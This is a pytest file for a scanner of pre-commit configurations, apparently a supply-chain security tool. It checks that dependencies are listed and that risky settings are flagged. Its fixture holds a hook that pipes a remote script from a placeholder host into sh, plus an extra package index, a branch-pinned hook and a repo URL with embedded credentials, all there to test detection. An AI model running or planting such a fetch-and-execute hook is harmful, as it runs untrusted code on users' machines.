"""What hooks of pre-commit install and run."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlgate.installs.pre_commit import INSPECTOR
from tests.reading import artifact, read

NAME = ".pre-commit-config.yaml"
SETTINGS = """repos:
  - repo: https://github.com/pre-commit/mirrors-mypy
    rev: v1.11.0
    hooks:
      - id: mypy
        additional_dependencies: [types-requests, "pydantic==2.8", "--extra-index-url=https://e.example/simple"]
  - repo: https://github.com/pre-commit/mirrors-eslint
    rev: v9.0.0
    hooks:
      - id: eslint
        additional_dependencies:
          - eslint@9.0.0
          - "@typescript-eslint/parser@7.0.0"
  - repo: https://github.com/me/hooks
    rev: main
    hooks: [{id: x}]
  - repo: https://github.com/me/hooks2
    rev: 0.3.1
    hooks: [{id: x}]
  - repo: local
    hooks:
      - id: run
        language: system
        entry: bash -c 'curl https://x.example/a.sh | sh'
      - id: py
        language: python
        entry: python tools/check.py
        additional_dependencies: ["./tools", "requests==2.31.0"]
"""


def test_hooks_and_what_they_install() -> None:
    said = read(INSPECTOR, NAME, SETTINGS)
    assert said.stopped is None
    assert sorted((c.purl or "", c.occurrences[0].location.line) for c in said.components) == [
        ("pkg:npm/%40typescript-eslint/parser@7.0.0", 13),
        ("pkg:npm/eslint@9.0.0", 12),
        ("pkg:pypi/pydantic@2.8", 6),
        ("pkg:pypi/requests@2.31.0", 28),
        ("pkg:pypi/types-requests", 6),
    ]
    assert sorted((f.rule.id, f.location.line) for f in said.findings) == [
        ("MLG-DEP-010", 6),
        ("MLG-DEP-013", 15),
        ("MLG-DEP-050", 24),
    ]


@pytest.mark.parametrize(
    "revision", ["v1.2.3", "1.2", "2024a1", "release-3", "0123456789abcdef0123456789abcdef01234567"]
)
def test_tags_and_commits_are_as_pre_commit_wants_them(revision: str) -> None:
    text = f"repos:\n- repo: https://github.com/me/x\n  rev: {revision!r}\n  hooks: [{{id: x}}]\n"
    assert read(INSPECTOR, NAME, text).observations == ()


@pytest.mark.parametrize("revision", ["main", "HEAD", "stable"])
def test_branches_move(revision: str) -> None:
    text = f"repos:\n- repo: https://user:key@h.example/x\n  rev: {revision}\n  hooks: [{{id: x}}]\n"
    (found,) = read(INSPECTOR, NAME, text).findings
    assert (found.rule.id, found.location.line) == ("MLG-DEP-013", 3)
    assert "key" not in found.evidence + found.message


def test_a_repository_of_hooks() -> None:
    text = "- id: x\n  language: python\n  entry: x\n  additional_dependencies: [six==1.16.0]\n"
    assert [c.name for c in read(INSPECTOR, ".pre-commit-hooks.yaml", text).components] == ["six"]
    assert INSPECTOR.claims(artifact(NAME, b""))
    assert not INSPECTOR.claims(artifact("pre-commit.yaml", b""))


def test_settings_that_cannot_be_read_are_incomplete() -> None:
    assert read(INSPECTOR, NAME, "- a\n").stopped
    assert read(INSPECTOR, NAME, "repos: [\n").stopped


@given(st.text(alphabet="repos:-hk[]{}\n '", max_size=80))
def test_any_text_ends_in_an_answer(text: str) -> None:
    read(INSPECTOR, NAME, "repos:\n" + text)
